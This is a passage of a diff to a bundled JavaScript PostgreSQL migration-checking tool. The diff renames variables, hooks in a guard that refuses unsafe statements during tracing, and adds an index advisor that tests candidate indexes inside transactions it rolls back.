-async function runUnit(session, file, unit) {
+async function runUnit(session, file, unit2) {
   const state = file.markers;
-  const count = unit.statements.length;
-  const markers = count > 1;
+  const count2 = unit2.statements.length;
+  const markers = count2 > 1;
   const first = state.next;
-  if (markers) state.next += count;
+  if (markers) state.next += count2;
   const script = new Script();
-  if (unit.wrap) script.add("BEGIN;\n");
-  let cursor = unit.from;
+  if (unit2.wrap) script.add("BEGIN;\n");
+  let cursor = unit2.from;
   if (markers) {
-    unit.statements.forEach((statement, i) => {
+    unit2.statements.forEach((statement, i) => {
       script.add(file.executed.toString("utf8", cursor, statement.range.end), cursor);
       cursor = statement.range.end;
       script.add(lockMarker(first + i, i === 0 ? state.held : first + i - 1));
     });
   }
-  script.add(file.executed.toString("utf8", cursor, unit.to), cursor);
-  if (unit.wrap) script.add(`
-;COMMIT;${markers ? `SELECT ${unlockMarker(first + count - 1)}` : ""}`);
+  script.add(file.executed.toString("utf8", cursor, unit2.to), cursor);
+  if (unit2.wrap) script.add(`
+;COMMIT;${markers ? `SELECT ${unlockMarker(first + count2 - 1)}` : ""}`);
   try {
     await session.exec(script.sql);
-    if (markers) state.held = unit.wrap ? void 0 : first + count - 1;
+    if (markers) state.held = unit2.wrap ? void 0 : first + count2 - 1;
     return { ok: true };
   } catch (error) {
     if (!isSqlError(error)) throw infrastructureFailure(file.path, error);
     let lost = false;
-    let completed = count === 1 ? 0 : void 0;
+    let completed = count2 === 1 ? 0 : void 0;
     const held = state.held;
     state.held = void 0;
     try {
       await session.exec("ROLLBACK");
       if (markers || held !== void 0) {
         const keys = (await session.query(TAKE_MARKER)).map((row) => row.key);
-        const mine = keys.filter((key) => key >= first && key < first + count);
+        const mine = keys.filter((key) => key >= first && key < first + count2);
         if (markers) completed = mine.length > 0 ? Math.max(...mine) - first + 1 : 0;
       }
     } catch (cleanup) {
       if (!isSqlError(cleanup)) lost = true;
     }
-    return { ok: false, ...locate(file, unit, script, error, completed), completed, lost };
+    return { ok: false, ...locate(file, unit2, script, error, completed), completed, lost };
   }
 }
-function locate(file, unit, script, error, completed) {
+function locate(file, unit2, script, error, completed) {
   const position = error.position === void 0 ? void 0 : script.originOf(Number(error.position));
-  const failing = position !== void 0 ? unit.statements.findLast((s) => s.range.start <= position) : completed !== void 0 ? unit.statements[completed] : void 0;
+  const failing = position !== void 0 ? unit2.statements.findLast((s) => s.range.start <= position) : completed !== void 0 ? unit2.statements[completed] : void 0;
   const offset = position ?? failing?.range.start;
   return {
     failing,
@@ -6389,8 +7319,8 @@ function isSqlError(error) {
   const code = error.code;
   return typeof code === "string" && /^[0-9A-Z]{5}$/.test(code) && !code.startsWith("08") && !code.startsWith("57P");
 }
-function infrastructureFailure(path2, error) {
-  return new ProviderError(`could not replay ${path2}: ${describe2(error)}`, { cause: error });
+function infrastructureFailure(path3, error) {
+  return new ProviderError(`could not replay ${path3}: ${describe2(error)}`, { cause: error });
 }
 var DUPLICATE_OBJECT, OPENING, SHAREABLE, unlockMarker, lockMarker, TAKE_MARKER;
 var init_apply = __esm({
@@ -6400,6 +7330,7 @@ var init_apply = __esm({
     init_source();
     init_statements();
     init_provider();
+    init_guard();
     init_script();
     DUPLICATE_OBJECT = "42710";
     OPENING = /* @__PURE__ */ new Set(["TRANS_STMT_BEGIN", "TRANS_STMT_START"]);
@@ -6446,9 +7377,9 @@ var init_apply = __esm({
 
 // src/replay/fingerprint.ts
 async function schemaFingerprint(session) {
-  const rows = await session.query(FINGERPRINT_SQL);
+  const rows2 = await session.query(FINGERPRINT_SQL);
   const objects = /* @__PURE__ */ new Map();
-  for (const row of rows) {
+  for (const row of rows2) {
     const object = { kind: row.kind, name: row.name, definition: row.definition ?? "" };
     if (row.parent !== null) object.parent = row.parent;
     objects.set(`${row.kind} ${row.name}`, object);
@@ -6465,7 +7396,7 @@ function compareFingerprints(before, after) {
   for (const [key, object] of after) {
     const was = before.get(key);
     if (!was || was.definition === object.definition) continue;
-    const short = (text) => text.length <= SHOWN_DEFINITION && !text.includes("\n");
+    const short = (text2) => text2.length <= SHOWN_DEFINITION && !text2.includes("\n");
     lines.push(
       short(was.definition) && short(object.definition) ? `${object.kind} ${object.name} is ${object.definition}, was ${was.definition}` : `${object.kind} ${object.name} differs from before the migration`
     );
@@ -6613,9 +7544,9 @@ async function checkDownMigration(session, file, before) {
   if (down) return { ok: false, failure: down };
   const difference = compareFingerprints(before, await schemaFingerprint(session));
   const again = await applyMigration(session, file);
-  const failure = again && { ...again, message: `applying the migration again after its down part failed: ${again.message}` };
-  if (!failure && difference.length === 0) return { ok: true };
-  return { ok: false, ...failure ? { failure } : {}, ...difference.length > 0 ? { difference } : {} };
+  const failure2 = again && { ...again, message: `applying the migration again after its down part failed: ${again.message}` };
+  if (!failure2 && difference.length === 0) return { ok: true };
+  return { ok: false, ...failure2 ? { failure: failure2 } : {}, ...difference.length > 0 ? { difference } : {} };
 }
 var init_down = __esm({
   "src/replay/down.ts"() {
@@ -6637,8 +7568,8 @@ var init_replay = __esm({
 
 // src/trace/state.ts
 async function userRelations(session) {
-  const rows = await session.query(USER_RELATIONS);
-  return new Set(rows.map((row) => row.oid));
+  const rows2 = await session.query(USER_RELATIONS);
+  return new Set(rows2.map((row) => row.oid));
 }
 async function readLocks(session, pid) {
   const [row] = await session.query(`SELECT (${locksOf("$1")}) AS locks`, [pid]);
@@ -7051,11 +7982,11 @@ function failed(statement, before, ran) {
 }
 function withFailure(statement, trace, error, inStatement) {
   const code = typeof error.code === "string" ? error.code : void 0;
-  const failure = { statement: statement.index, message: error.message };
-  if (code) failure.code = code;
+  const failure2 = { statement: statement.index, message: error.message };
+  if (code) failure2.code = code;
   const position = inStatement ? errorOffset(statement, error.position) : void 0;
-  if (position !== void 0) failure.position = position;
-  return { trace: { ...trace, error: code ? { message: error.message, code } : { message: error.message } }, failure };
+  if (position !== void 0) failure2.position = position;
+  return { trace: { ...trace, error: code ? { message: error.message, code } : { message: error.message } }, failure: failure2 };
 }
 function errorOffset(statement, position) {
   const characters = Number(position);
@@ -7074,6 +8005,7 @@ var init_tracer = __esm({
   "src/trace/tracer.ts"() {
     "use strict";
     init_provider();
+    init_guard();
     init_canary();
     init_state();
     TraceError = class extends Error {
@@ -7136,6 +8068,12 @@ var init_tracer = __esm({
           this.#forget();
           for (const statement of file.statements) {
             current = statement;
+            const refusal = unsafeStatement(statement);
+            if (refusal) {
+              await this.#recover();
+              const failure2 = { statement: statement.index, message: refusalMessage(refusal), position: refusal.offset, refused: true };
+              return { statements: traces, failure: failure2 };
+            }
             const span = statement.transaction === void 0 ? void 0 : spans.get(statement.transaction);
             if (span?.first === statement.index && !span.opened) await this.#session.exec("BEGIN");
             let outcome = span ? await this.#inTransaction(statement, span) : await this.#autocommit(statement);
@@ -7379,16 +8317,16 @@ var init_trace = __esm({
 async function tableSizes(session, relations) {
   const sizes = /* @__PURE__ */ new Map();
   if (relations.length === 0) return sizes;
-  const rows = await session.query(
+  const rows2 = await session.query(
     `SELECT quote_ident(n.nspname) || '.' || quote_ident(c.relname) AS relation, c.reltuples::float8 AS reltuples,
             pg_total_relation_size(c.oid)::float8 AS bytes, c.oid::int8 AS oid
        FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
       WHERE n.nspname || '.' || c.relname = ANY($1::text[]) AND c.relkind IN ('r', 'p', 'm')`,
     [relations.map(unquote2)]
   );
-  for (const row of rows) {
-    const count = row.reltuples >= 0 ? row.reltuples : Number((await session.query(`SELECT count(*)::int8 AS n FROM ${row.relation}`))[0].n);
-    sizes.set(unquote2(row.relation), { rows: count, bytes: Number(row.bytes) });
+  for (const row of rows2) {
+    const count2 = row.reltuples >= 0 ? row.reltuples : Number((await session.query(`SELECT count(*)::int8 AS n FROM ${row.relation}`))[0].n);
+    sizes.set(unquote2(row.relation), { rows: count2, bytes: Number(row.bytes) });
   }
   return sizes;
 }
@@ -7408,12 +8346,12 @@ async function estimateStatement(trace, indexBuildOn, sizes, tables, calibration
   ];
   const estimates = [];
   for (const { relation, operation } of work) {
-    const rows = productionRows(tables, relation);
-    if (rows === void 0 || estimates.some((e) => e.relation === relation && e.operation === operation)) continue;
+    const rows2 = productionRows(tables, relation);
+    if (rows2 === void 0 || estimates.some((e) => e.relation === relation && e.operation === operation)) continue;
     const seeded = sizes.get(relation)?.rows ?? 0;
     const measured2 = seeded >= MEASURABLE_ROWS && trace.durationMs > 0;
     const rowsPerSecond = measured2 ? seeded / (trace.durationMs / 1e3) : await calibration.rate(operation);
-    estimates.push({ relation, operation, rows, seconds: rows / rowsPerSecond, rowsPerSecond: Math.round(rowsPerSecond), basis: measured2 ? "measured" : "calibrated" });
+    estimates.push({ relation, operation, rows: rows2, seconds: rows2 / rowsPerSecond, rowsPerSecond: Math.round(rowsPerSecond), basis: measured2 ? "measured" : "calibrated" });
   }
   return estimates;
 }
@@ -7445,13 +8383,3215 @@ var init_estimate = __esm({
             `CREATE TEMP TABLE sql_preflight_calibration AS
            SELECT g::int4 AS id, md5(g::text) AS payload, now() AS created_at FROM generate_series(1, ${CALIBRATION_ROWS}) g`
           );
-          const scan = await timed("ALTER TABLE sql_preflight_calibration ADD CONSTRAINT sql_preflight_calibration_check CHECK (id > 0)");
+          const scan2 = await timed("ALTER TABLE sql_preflight_calibration ADD CONSTRAINT sql_preflight_calibration_check CHECK (id > 0)");
           const index = await timed("CREATE INDEX ON sql_preflight_calibration (payload)");
           const rewrite = await timed("ALTER TABLE sql_preflight_calibration ALTER COLUMN id TYPE int8");
-          return { scan: CALIBRATION_ROWS / scan, "index build": CALIBRATION_ROWS / index, rewrite: CALIBRATION_ROWS / rewrite };
+          return { scan: CALIBRATION_ROWS / scan2, "index build": CALIBRATION_ROWS / index, rewrite: CALIBRATION_ROWS / rewrite };
         } finally {
           await this.session.exec("ROLLBACK");
         }
+      }
+    };
+  }
+});
+
+// src/explain/advise.ts
+import { parseSync as parseSync2 } from "libpg-query";
+function truncateBytes(text2, bytes) {
+  let out = "";
+  for (const char of text2) {
+    if (Buffer.byteLength(out + char, "utf8") > bytes) break;
+    out += char;
+  }
+  return out;
+}
+function indexUseLines(visit) {
+  let heap = visit.node["Node Type"] === "Bitmap Index Scan" ? visit.parent : void 0;
+  while (heap && heap.node["Node Type"] !== "Bitmap Heap Scan") heap = heap.parent;
+  return heap ? planExcerpt(heap.node, [visit.node]) : planExcerpt(visit.node, []);
+}
+function columnSets(needs) {
+  const singles = unique([...needs.filters.filter((f) => f.equality).map((f) => f.column), ...needs.joinKeys, ...needs.filters.map((f) => f.column), ...needs.sortKeys.slice(0, 1)]);
+  const filterColumns = unique(needs.filters.map((f) => f.column));
+  const seconds2 = unique([...filterColumns, ...needs.sortKeys.slice(0, 1)]);
+  const pairs = needs.filters.filter((f) => f.equality).flatMap((first) => seconds2.filter((second) => second !== first.column).map((second) => [first.column, second]));
+  return [...singles.map((c) => [c]), ...uniqueSets(pairs)];
+}
+function unique(values) {
+  return [...new Set(values)];
+}
+function uniqueSets(sets) {
+  const seen = /* @__PURE__ */ new Set();
+  return sets.filter((set) => !seen.has(set.join("\0")) && !!seen.add(set.join("\0")));
+}
+function scanNeeds(explain) {
+  const byNode = /* @__PURE__ */ new Map();
+  const needsOf = (node) => {
+    let needs = byNode.get(node);
+    if (!needs) {
+      needs = { relation: { schema: node.Schema, name: node["Relation Name"] }, filters: [], joinKeys: [], sortKeys: [] };
+      byNode.set(node, needs);
+    }
+    return needs;
+  };
+  for (const visit of walkPlan(explain.Plan)) {
+    const { node } = visit;
+    const type = node["Node Type"];
+    if (type === "Seq Scan" && node["Relation Name"] && node.Filter) {
+      needsOf(node).filters.push(...comparedColumns2(node.Filter, node));
+    } else if ((type === "Index Scan" || type === "Index Only Scan" || type === "Bitmap Heap Scan") && node["Relation Name"] && node.Filter && filtersMost(node)) {
+      const found = node["Index Cond"] ?? node["Recheck Cond"] ?? bitmapIndexCond(node);
+      needsOf(node).filters.push(...found ? comparedColumns2(found, node) : [], ...comparedColumns2(node.Filter, node));
+    }
+    const condition = node["Hash Cond"] ?? node["Merge Cond"] ?? (type === "Nested Loop" ? node["Join Filter"] : void 0);
+    const inner = node.Plans?.[1] && scanBelow(node.Plans[1]);
+    if (condition && inner) needsOf(inner).joinKeys.push(...comparedColumns2(condition, inner).filter((c) => c.equality).map((c) => c.column));
+    const sorted = type === "Sort" && node["Sort Key"] && node.Plans?.[0] ? scanBelow(node.Plans[0]) : void 0;
+    if (sorted) needsOf(sorted).sortKeys.push(...sortColumns(node["Sort Key"], sorted));
+  }
+  return [...byNode.values()].map((needs) => ({ ...needs, filters: uniqueUses(needs.filters) }));
+}
+function uniqueUses(uses) {
+  const equal = new Set(uses.filter((u) => u.equality).map((u) => u.column));
+  const columns = unique(uses.map((u) => u.column));
+  return [...columns.filter((c) => equal.has(c)), ...columns.filter((c) => !equal.has(c))].map((column) => ({ column, equality: equal.has(column) }));
+}
+function filtersMost(node) {
+  const removed = node["Rows Removed by Filter"];
+  const kept = node["Actual Rows"];
+  if (removed === void 0 || kept === void 0) return false;
+  return removed >= FILTERED_ROWS && removed / (removed + kept) >= FILTERED_SHARE;
+}
+function bitmapIndexCond(node) {
+  return node.Plans?.find((child) => child["Node Type"] === "Bitmap Index Scan")?.["Index Cond"];
+}
+function scanBelow(node) {
+  let current = node;
+  while (current && !current["Relation Name"]) current = current.Plans?.length === 1 ? current.Plans[0] : void 0;
+  return current && current["Node Type"] !== "ModifyTable" ? current : void 0;
+}
+function comparedColumns2(condition, scan2) {
+  const where = parseExpression(`SELECT 1 WHERE ${condition}`)?.whereClause;
+  if (!where) return [];
+  const uses = [];
+  for (const term of conjuncts2(where)) {
+    if (term.NullTest) {
+      const column2 = scanColumn(term.NullTest.arg, scan2);
+      if (column2) uses.push({ column: column2, equality: true });
+      continue;
+    }
+    const expr = term.A_Expr;
+    const operator = expr?.name?.[0]?.String?.sval;
+    if (!expr || !["=", "<", "<=", ">", ">="].includes(operator)) continue;
+    if (expr.kind === "AEXPR_OP_ANY") {
+      const column2 = operator === "=" ? scanColumn(expr.lexpr, scan2) : void 0;
+      if (column2) uses.push({ column: column2, equality: true });
+      continue;
+    }
+    if (expr.kind !== "AEXPR_OP") continue;
+    const left = scanColumn(expr.lexpr, scan2);
+    const right = scanColumn(expr.rexpr, scan2);
+    if (left && right) continue;
+    const column = left ?? right;
+    if (column) uses.push({ column, equality: operator === "=" });
+  }
+  return uses;
+}
+function sortColumns(keys, scan2) {
+  const select = parseExpression(`SELECT 1 ORDER BY ${keys.join(", ")}`);
+  const columns = [];
+  for (const item of select?.sortClause ?? []) {
+    const column = scanColumn(item.SortBy?.node, scan2);
+    if (!column) break;
+    columns.push(column);
+  }
+  return columns;
+}
+function parseExpression(sql) {
+  try {
+    return parseSync2(sql).stmts?.[0]?.stmt?.SelectStmt;
+  } catch {
+    return void 0;
+  }
+}
+function conjuncts2(node) {
+  return node.BoolExpr?.boolop === "AND_EXPR" ? node.BoolExpr.args.flatMap(conjuncts2) : [node];
+}
+function scanColumn(node, scan2) {
+  const ref = (node?.TypeCast?.arg ?? node)?.ColumnRef;
+  const fields = (ref?.fields ?? []).map((f) => f.String?.sval);
+  if (!ref || fields.length === 0 || fields.some((f) => f === void 0)) return void 0;
+  const column = fields.at(-1);
+  const qualifier = fields.at(-2);
+  if (qualifier !== void 0 && qualifier !== scan2.Alias && qualifier !== scan2["Relation Name"]) return void 0;
+  return column;
+}
+var FILTERED_SHARE, FILTERED_ROWS, IndexAdvisor;
+var init_advise = __esm({
+  "src/explain/advise.ts"() {
+    "use strict";
+    init_parse();
+    init_provider();
+    init_text2();
+    init_walk();
+    FILTERED_SHARE = 0.9;
+    FILTERED_ROWS = 100;
+    IndexAdvisor = class {
+      #session;
+      #minImprovement;
+      #maxCandidates;
+      #queries = /* @__PURE__ */ new Map();
+      constructor(session, options = {}) {
+        this.#session = session;
+        this.#minImprovement = options.minImprovement ?? 0.5;
+        this.#maxCandidates = options.maxCandidatesPerQuery ?? 10;
+      }
+      /**
+       * Adds a query by its plan. Candidates are the filter columns of Seq Scans (and of index scans whose filter throws
+       * away most rows), the join keys of the inner side of joins and sort keys; single columns first, then two columns
+       * where the query filters on several. They are read from the plan when `run` starts. `replan` plans the query
+       * again in the session's current state without beginning or ending a transaction.
+       */
+      consider(key, explain, replan) {
+        this.#queries.set(key, { explain, replan });
+      }
+      /**
+       * Creates each candidate once (CREATE INDEX, inside BEGIN ... ROLLBACK, each under a savepoint so that a failing
+       * one does not end the rest), re-plans every query that wanted it, and keeps the indexes that cut a query's total
+       * cost by `minImprovement`; a two-column index only when it cuts the best single-column cost by as much again.
+       * At most one suggestion per query and table. Queries without a suggestion are not in the result.
+       */
+      async run() {
+        await loadParser();
+        const { singles, pairs } = await this.#candidates();
+        const best = /* @__PURE__ */ new Map();
+        const singleCost = /* @__PURE__ */ new Map();
+        const slot = (key, table) => `${key}\0${table.schema}.${table.name}`;
+        const cut = (cost2) => cost2 * (1 - this.#minImprovement);
+        await this.#session.exec("BEGIN");
+        try {
+          for (const candidate of singles) {
+            for (const measured2 of await this.#measure(candidate)) {
+              const { beforeCost, afterCost } = measured2.suggestion;
+              const at = slot(measured2.key, candidate.table);
+              if (afterCost < (singleCost.get(at) ?? Number.POSITIVE_INFINITY)) singleCost.set(at, afterCost);
+              if (afterCost <= cut(beforeCost) && afterCost < (best.get(at)?.suggestion.afterCost ?? Number.POSITIVE_INFINITY)) best.set(at, measured2);
+            }
+          }
+          for (const candidate of pairs) {
+            for (const measured2 of await this.#measure(candidate)) {
+              const { beforeCost, afterCost } = measured2.suggestion;
+              const at = slot(measured2.key, candidate.table);
+              if (afterCost <= cut(Math.min(beforeCost, singleCost.get(at) ?? beforeCost)) && afterCost < (best.get(at)?.suggestion.afterCost ?? Number.POSITIVE_INFINITY)) {
+                best.set(at, measured2);
+              }
+            }
+          }
+        } finally {
+          await this.#session.exec("ROLLBACK");
+        }
+        const result2 = /* @__PURE__ */ new Map();
+        for (const { key, suggestion } of best.values()) result2.set(key, [...result2.get(key) ?? [], suggestion]);
+        return result2;
+      }
+      /** Every query's candidates, merged across queries, minus those an existing index already leads with. */
+      async #candidates() {
+        const tables = /* @__PURE__ */ new Map();
+        const candidates = /* @__PURE__ */ new Map();
+        for (const [key, query] of this.#queries) {
+          let taken = 0;
+          const wanted = [];
+          for (const needs of scanNeeds(query.explain)) {
+            const { schema, name } = needs.relation;
+            const lookup = `${schema ?? ""}.${name}`;
+            if (!tables.has(lookup)) tables.set(lookup, await this.#table(schema, name));
+            const table = tables.get(lookup);
+            if (!table) continue;
+            for (const columns of columnSets(needs)) wanted.push({ table, columns });
+          }
+          wanted.sort((a, b) => a.columns.length - b.columns.length);
+          for (const { table, columns } of wanted) {
+            if (taken >= this.#maxCandidates) break;
+            if (table.indexes.some((leading) => columns.every((c, i) => leading[i] === c))) continue;
+            const id = `${table.schema}.${table.name}(${columns.join(",")})`;
+            const candidate = candidates.get(id) ?? { table, columns, queries: /* @__PURE__ */ new Set() };
+            if (candidate.queries.has(key)) continue;
+            candidate.queries.add(key);
+            candidates.set(id, candidate);
+            taken++;
+          }
+        }
+        const all = [...candidates.values()];
+        return { singles: all.filter((c) => c.columns.length === 1), pairs: all.filter((c) => c.columns.length > 1) };
+      }
+      /**
+       * The table a scan reads. Plans name the schema only with VERBOSE; without it the name is looked up on the
+       * search path, else taken when exactly one schema has a table of that name.
+       */
+      async #table(schema, name) {
+        const rows2 = await this.#session.query(
+          `SELECT n.nspname AS schema, c.relname AS name,
+              (SELECT coalesce(json_agg(ARRAY(SELECT a.attname::text
+                                               FROM unnest(i.indkey::int2[]) WITH ORDINALITY AS k(attnum, position)
+                                               LEFT JOIN pg_attribute a ON a.attrelid = i.indrelid AND a.attnum = k.attnum
+                                               ORDER BY k.position)), '[]')
+                 FROM pg_index i
+                 JOIN pg_class ic ON ic.oid = i.indexrelid
+                 JOIN pg_am am ON am.oid = ic.relam
+                WHERE i.indrelid = c.oid AND i.indisvalid AND i.indpred IS NULL AND am.amname = 'btree') AS indexes
+         FROM pg_class c
+         JOIN pg_namespace n ON n.oid = c.relnamespace
+        WHERE c.relname = $2 AND c.relkind IN ('r', 'm')
+          AND CASE WHEN $1::text IS NOT NULL THEN n.nspname = $1
+                   WHEN to_regclass(quote_ident($2)) IS NOT NULL THEN c.oid = to_regclass(quote_ident($2))
+                   ELSE n.nspname NOT IN ('pg_catalog', 'information_schema') AND n.nspname NOT LIKE 'pg\\_%' END`,
+          [schema ?? null, name]
+        );
+        return rows2.length === 1 ? rows2[0] : void 0;
+      }
+      /** Creates the candidate under a savepoint, re-plans the queries that wanted it, and drops it again. */
+      async #measure(candidate) {
+        const session = this.#session;
+        const { table, columns } = candidate;
+        const measured2 = [];
+        const name = await this.#freeIndexName(table, columns);
+        const target = `${quote(table.schema)}.${quote(table.name)}`;
+        const columnList = columns.map(quote).join(", ");
+        await session.exec("SAVEPOINT sql_preflight_index");
+        try {
+          await session.exec(`CREATE INDEX ${quote(name)} ON ${target} (${columnList})`);
+          const [size] = await session.query("SELECT pg_relation_size(to_regclass($1))::int8 AS bytes", [`${quote(table.schema)}.${quote(name)}`]);
+          for (const key of candidate.queries) {
+            const query = this.#queries.get(key);
+            const plan = await this.#replan(query);
+            const uses = plan ? walkPlan(plan.Plan).filter((v) => v.node["Index Name"] === name) : [];
+            if (!plan || !uses.length) continue;
+            measured2.push({
+              key,
+              suggestion: {
+                statement: `CREATE INDEX CONCURRENTLY ${quote(name)} ON ${target} (${columnList});`,
+                table: `${table.schema}.${table.name}`,
+                columns,
+                beforeCost: query.explain.Plan["Total Cost"] ?? 0,
+                afterCost: plan.Plan["Total Cost"] ?? 0,
+                sizeBytes: Number(size.bytes),
+                planLines: uses.flatMap(indexUseLines)
+              }
+            });
+          }
+        } catch (error) {
+          if (error instanceof ProviderError) throw error;
+        } finally {
+          await session.exec("ROLLBACK TO SAVEPOINT sql_preflight_index");
+          await session.exec("RELEASE SAVEPOINT sql_preflight_index");
+        }
+        return measured2;
+      }
+      /** The query's plan with the index in place, or undefined when planning fails (the failure is rolled back). */
+      async #replan(query) {
+        await this.#session.exec("SAVEPOINT sql_preflight_replan");
+        try {
+          const plan = await query.replan();
+          await this.#session.exec("RELEASE SAVEPOINT sql_preflight_replan");
+          return plan;
+        } catch (error) {
+          if (error instanceof ProviderError) throw error;
+          await this.#session.exec("ROLLBACK TO SAVEPOINT sql_preflight_replan");
+          await this.#session.exec("RELEASE SAVEPOINT sql_preflight_replan");
+          return void 0;
+        }
+      }
+      /** PostgreSQL's own choice for `CREATE INDEX ON t (a, b)`: `t_a_b_idx`, within 63 bytes, numbered when taken. */
+      async #freeIndexName(table, columns) {
+        const base = truncateBytes(`${table.name}_${columns.join("_")}`, 63 - "_idx".length);
+        for (let n = 0; ; n++) {
+          const name = n === 0 ? `${base}_idx` : `${truncateBytes(base, 63 - "_idx".length - String(n).length)}_idx${n}`;
+          const [row] = await this.#session.query("SELECT to_regclass($1) IS NOT NULL AS taken", [`${quote(table.schema)}.${quote(name)}`]);
+          if (!row.taken) return name;
+        }
+      }
+    };
+  }
+});
+
+// src/plan/model.ts
+function parseExplain(output) {
+  let value = typeof output === "string" ? JSON.parse(output) : output;
+  if (Array.isArray(value) && value.length === 1 && isRecord(value[0]) && "QUERY PLAN" in value[0]) value = value[0]["QUERY PLAN"];
+  if (typeof value === "string") value = JSON.parse(value);
+  if (Array.isArray(value)) value = value[0];
+  if (!isRecord(value) || !isRecord(value.Plan) || typeof value.Plan["Node Type"] !== "string") {
+    throw new Error('Not the output of EXPLAIN (FORMAT JSON): expected [{ "Plan": { "Node Type": ... } }].');
+  }
+  return value;
+}
+function isRecord(value) {
+  return typeof value === "object" && value !== null && !Array.isArray(value);
+}
+var init_model = __esm({
+  "src/plan/model.ts"() {
+    "use strict";
+  }
+});
+
+// src/explain/params.ts
+function parameterSources(sql) {
+  const sources = /* @__PURE__ */ new Map();
+  const tree = statementTree(sql);
+  if (!tree) return sources;
+  const relations = [];
+  const cteNames = /* @__PURE__ */ new Set();
+  walk2(tree, (type, node) => {
+    if (type === "CommonTableExpr") cteNames.add(node.ctename);
+    if (type === "RangeVar") relations.push(relationOf(node));
+    if (MODIFYING.has(type)) relations.push(relationOf(node.relation));
+  });
+  const tables = relations.filter((r) => r.schema !== void 0 || !cteNames.has(r.name));
+  const use = (params, source2) => {
+    if (!source2) return;
+    for (const n of params) if (!sources.has(n)) sources.set(n, source2);
+  };
+  const columnSource = (ref, array = false) => {
+    const fields = (ref?.fields ?? []).map((f) => f.String?.sval);
+    if (!ref || fields.length === 0 || fields.some((f) => f === void 0)) return void 0;
+    const column = fields.at(-1);
+    const qualifier = fields.at(-2);
+    const schema = fields.at(-3);
+    const candidates = qualifier === void 0 ? tables : tables.filter((t) => (t.alias ?? t.name) === qualifier && (schema === void 0 || t.schema === schema));
+    return candidates.length ? { kind: "column", tables: unique2(candidates.map((t) => t.regclass)), column, array } : void 0;
+  };
+  const assignments = (relation, targets) => {
+    const table = relationOf(relation);
+    for (const target of targets ?? []) {
+      const { name, val } = target.ResTarget ?? {};
+      if (name && val) use(paramsIn(val), { kind: "column", tables: [table.regclass], column: name, array: false });
+    }
+  };
+  walk2(tree, (type, node) => {
+    switch (type) {
+      case "A_Expr": {
+        const array = node.kind === "AEXPR_OP_ANY" || node.kind === "AEXPR_OP_ALL";
+        use(paramsIn(node.rexpr), columnSource(columnRef(node.lexpr), array));
+        if (!array) use(paramsIn(node.lexpr), columnSource(columnRef(node.rexpr)));
+        break;
+      }
+      case "SelectStmt":
+        use(paramsIn(node.limitCount), { kind: "limit" });
+        use(paramsIn(node.limitOffset), { kind: "offset" });
+        break;
+      case "InsertStmt": {
+        const table = relationOf(node.relation);
+        const columns = (node.cols ?? []).map((c) => c.ResTarget?.name);
+        for (const row of node.selectStmt?.SelectStmt?.valuesLists ?? []) {
+          (row.List?.items ?? []).forEach((value, i) => {
+            const column = columns[i];
+            if (column) use(paramsIn(value), { kind: "column", tables: [table.regclass], column, array: false });
+          });
+        }
+        assignments(node.relation, node.onConflictClause?.targetList);
+        break;
+      }
+      case "UpdateStmt":
+        assignments(node.relation, node.targetList);
+        break;
+    }
+  });
+  return sources;
+}
+function parameterLocation(sql, n) {
+  const tree = statementTree(sql);
+  let location;
+  if (tree) {
+    walk2(tree, (type, node) => {
+      if (type === "ParamRef" && node.number === n && location === void 0) location = node.location;
+    });
+  }
+  return location;
+}
+async function sampleParameters(session, sql, prepared) {
+  const sources = parameterSources(sql);
+  const types = await session.query(TYPE_FALLBACK, [prepared]);
+  const values = [];
+  for (const [i, { fallback }] of types.entries()) {
+    const source2 = sources.get(i + 1);
+    let value;
+    if (source2?.kind === "limit") value = SAMPLE_LIMIT;
+    else if (source2?.kind === "offset") value = "0";
+    else if (source2?.kind === "column") {
+      value = await columnValue(session, source2.tables, source2.column);
+      if (value !== null && source2.array) value = `{${arrayElement(value)}}`;
+    }
+    values.push(value ?? fallback);
+  }
+  return values;
+}
+async function columnValue(session, tables, column) {
+  const [found] = await session.query(COLUMN_STATISTICS, [tables, column]);
+  if (!found) return null;
+  if (found.value !== null) return found.value;
+  const [row] = await session.query(
+    `SELECT ${quoteIdent(column)}::text AS value FROM ${found.table} WHERE ${quoteIdent(column)} IS NOT NULL LIMIT 1`
+  );
+  return row?.value ?? null;
+}
+function statementTree(sql) {
+  const outcome = parseSql(sql);
+  const statement = outcome.ok ? outcome.statements[0] : void 0;
+  return statement && { [statement.type]: statement.node };
+}
+function walk2(value, visit) {
+  if (Array.isArray(value)) {
+    for (const item of value) walk2(item, visit);
+  } else if (typeof value === "object" && value !== null) {
+    for (const [key, child] of Object.entries(value)) {
+      if (/^[A-Z]/.test(key) && typeof child === "object" && child !== null && !Array.isArray(child)) visit(key, child);
+      walk2(child, visit);
+    }
+  }
+}
+function paramsIn(expression) {
+  if (!expression) return [];
+  if (expression.List) return (expression.List.items ?? []).flatMap(paramsIn);
+  let node = expression;
+  while (node?.TypeCast || node?.CollateClause) node = (node.TypeCast ?? node.CollateClause).arg;
+  return node?.ParamRef ? [node.ParamRef.number] : [];
+}
+function columnRef(expression) {
+  let node = expression;
+  while (node?.TypeCast || node?.CollateClause) node = (node.TypeCast ?? node.CollateClause).arg;
+  return node?.ColumnRef;
+}
+function relationOf(rangeVar) {
+  const name = rangeVar.relname;
+  const schema = rangeVar.schemaname;
+  const regclass = schema ? `${quoteIdent(schema)}.${quoteIdent(name)}` : quoteIdent(name);
+  return { regclass, schema, name, alias: rangeVar.alias?.aliasname };
+}
+function quoteIdent(name) {
+  return `"${name.replaceAll('"', '""')}"`;
+}
+function arrayElement(value) {
+  return `"${value.replace(/["\\]/g, "\\$&")}"`;
+}
+function unique2(values) {
+  return [...new Set(values)];
+}
+var SAMPLE_LIMIT, MODIFYING, COLUMN_STATISTICS, TYPE_FALLBACK;
+var init_params = __esm({
+  "src/explain/params.ts"() {
+    "use strict";
+    init_parse();
+    SAMPLE_LIMIT = "10";
+    MODIFYING = /* @__PURE__ */ new Set(["InsertStmt", "UpdateStmt", "DeleteStmt", "MergeStmt"]);
+    COLUMN_STATISTICS = `
+SELECT c.oid::regclass::text AS "table",
+       (SELECT coalesce(common[1], bounds[(array_length(bounds, 1) + 1) / 2])
+          FROM (SELECT s.most_common_vals::text::text[] AS common, s.histogram_bounds::text::text[] AS bounds
+                  FROM pg_catalog.pg_stats s
+                 WHERE s.schemaname = n.nspname AND s.tablename = c.relname AND s.attname = a.attname
+                 ORDER BY s.inherited DESC
+                 LIMIT 1) AS stats) AS value
+  FROM unnest($1::text[]) WITH ORDINALITY AS candidate(name, position)
